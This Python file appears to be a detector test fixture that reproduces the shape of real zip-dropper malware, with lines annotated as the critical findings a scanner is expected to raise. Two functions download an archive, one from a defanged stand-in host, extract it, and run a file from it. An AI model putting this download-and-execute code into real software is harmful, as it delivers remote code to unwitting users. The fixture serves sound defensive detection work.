# Shape of "ressyy" (2024) and of the transfer.sh zip droppers: an archive is
# downloaded, extracted, and a file from the extracted folder is run (here
# from a thread). Defanged: example.invalid; nothing is fetched.
import io
import os
import subprocess
import tempfile
import threading
import zipfile

import requests

base = os.getenv("LOCALAPPDATA", "")


def stage_one():
    r = requests.get("http://dl.example.invalid/webpack")
    with open(base + "\\here.zip", "wb") as f:
        f.write(r.content)
    with zipfile.ZipFile(base + "\\here.zip", "r") as zip_ref:
        zip_ref.extractall(base + "\\here")

    def gtcal():
        os.system(f"py {base}\\here\\modul\\__init__.py")  # expect: HS107 critical

    threading.Thread(target=gtcal, args=()).start()


def stage_two(url):
    d = os.path.join(tempfile.gettempdir(), "upd")
    zipfile.ZipFile(io.BytesIO(requests.get(url).content)).extractall(d)
    subprocess.Popen([os.path.join(d, "run.exe")])  # expect: HS107 critical
